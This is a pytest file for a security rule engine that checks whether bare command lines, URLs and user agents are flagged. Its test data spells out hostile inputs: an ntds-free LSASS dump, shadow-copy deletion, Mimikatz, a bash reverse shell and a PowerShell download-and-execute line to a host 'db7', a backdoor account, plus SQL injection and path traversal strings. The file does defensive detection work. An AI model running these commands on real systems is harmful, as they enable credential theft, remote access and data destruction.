@@ -1,0 +1,86 @@
+"""A value alone, as `field=CommandLine`, `field=url` or `field=http_user_agent` sends it, is judged like the event that it was taken from."""
+import time
+
+import pytest
+
+from aiscore_contract.forms.bare import bare_of
+from aiscore_rules.engine import RuleEngine
+from aiscore_rules.fields import read_facts
+from aiscore_rules.logsource import label
+from aiscore_rules.pack import default_pack_path, load_pack
+
+ENGINE = RuleEngine(load_pack(default_pack_path()))
+
+
+def titles(text, sourcetype=""):
+    return {rule.title for rule in ENGINE.pack.rules if rule.id in ENGINE.judge(text, sourcetype).rule_ids}
+
+
+@pytest.mark.parametrize("text, sourcetype", [
+    ("vssadmin delete shadows /all /quiet", "XmlWinEventLog"),
+    (r"C:\Windows\System32\cmd.exe /c vssadmin delete shadows /all /quiet", "XmlWinEventLog"),
+    (r"rundll32.exe C:\windows\system32\comsvcs.dll, MiniDump 624 C:\temp\a.dmp full", "xmlwineventlog"),
+    ("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", ""),
+    ("Invoke-Mimikatz -DumpCreds", "powershell"),
+    ("net user backdoor Secret-1 /add", ""),
+    ("bash -i >& /dev/tcp/db7/4444 0>&1", "linux:audit"),
+    ("sudo cat /etc/shadow", "bash_history"),
+    ("#1700000000\nhistory -c", "bash_history"),
+    ("<#\n  Helps\n#>\n$client = New-Object Net.WebClient\nInvoke-Mimikatz -DumpCreds", "powershell"),
+    ("# installs\ntry {\n  $x = Get-Content a\n} catch { }\nIEX (New-Object Net.WebClient).DownloadString('http://db7/a')", ""),
+    (r"C:\Users\ada>vssadmin delete shadows /all /quiet", ""),
+    ("/index.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", "access_combined"),
+    ("id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", "access_combined"),
+    ("?page=..%2f..%2f..%2fetc%2fpasswd&x=1&y=2&z=3", ""),
+    ("https://shop.example/index.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", ""),
+    ("sqlmap/1.7.2#stable (https://sqlmap.org)", "access_combined"),
+])
+def test_an_attack_in_a_value_alone_is_found_by_the_rules(text, sourcetype):
+    assert titles(text, sourcetype)
+
+
+@pytest.mark.parametrize("text", [
+    "net income rose by three percent", "service stopped unexpectedly", "java heap space error", "find the cause of this", "Time is running out",
+    "docker daemon started", "at noon the job failed", "mysql server has gone away", "bash: line 1: foo: command not found", "# a remark", "# a remark\nand another", "if (ever) it happens again, call Ada", "text/html",
+    "Cannot read file /etc/x", "History of the world", "ssh connection closed", "", "hello", "Error/500 something bad",
+    "user=ada", "user=ada,action=login", "level=info;msg=started", "state=ready since=yesterday",
+])
+def test_a_sentence_is_no_command_though_it_begins_with_the_name_of_a_program(text):
+    assert bare_of(text) is None
+
+
+@pytest.mark.parametrize("text", [
+    "git commit -m fix", "apt-get update", r"C:\Windows\system32\svchost.exe -k netsvcs -p", "/index.html", "https://www.example.org/wiki/Main_Page",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36", "Get-ADUser -Filter *",
+])
+def test_daily_work_in_a_value_alone_hits_no_rule_that_calls_it_suspicious(text):
+    assert ENGINE.judge(text).score < 0.5
+
+
+def test_the_place_of_a_file_is_no_page():
+    assert read_facts("/etc/passwd", "").family == "text" and read_facts("/etc/passwd?x=1", "").family == "bare"
+
+
+def test_a_name_that_two_systems_know_is_asked_for_on_both():
+    facts = read_facts("whoami", "")
+    assert facts.fields["image"] == ("\\whoami.exe", "/whoami")
+    assert {"windows", "linux", "macos"} <= label(facts, "").products
+
+
+def test_a_prompt_tells_the_system():
+    assert label(read_facts(r"C:\Temp>whoami", ""), "").products == {"windows"}
+
+
+def test_a_command_behind_another_is_asked_for_too_but_not_one_in_quotes():
+    assert read_facts("sudo -u root nmap db1 | tee x", "").fields["image"] == ("/sudo", "/nmap", "/tee")
+    assert read_facts("grep -r 'a | nmap' src", "").fields["image"] == "/grep"
+
+
+@pytest.mark.parametrize("text", [
+    "ab-abc " * 9_000, "$a " * 9_000, "Ab/1 " * 9_000, "Ab/1." + "1" * 40_000, "cat " + "a;" * 20_000, '"' * 40_000, "C:\\" + "a " * 20_000, "sudo " + "-u " * 9_000,
+    "(" * 40_000, "A/1 (" * 9_000, "a=" * 20_000, "#" + "Abc-Abc " * 9_000, "# " + "(    " * 9_000, "# $" + "a" * 40_000, "a=1,b" * 9_000, "/" * 40_000, "a@b:" * 9_000, "cat '" + "a" * 40_000, "cat \"" + "\\\"" * 20_000, "[system." * 5_000, "\\\\" * 20_000,
+])
+def test_hostile_values_are_read_in_no_time(text):
+    start_s = time.process_time()
+    bare_of(text)
+    assert time.process_time() - start_s < 1.0
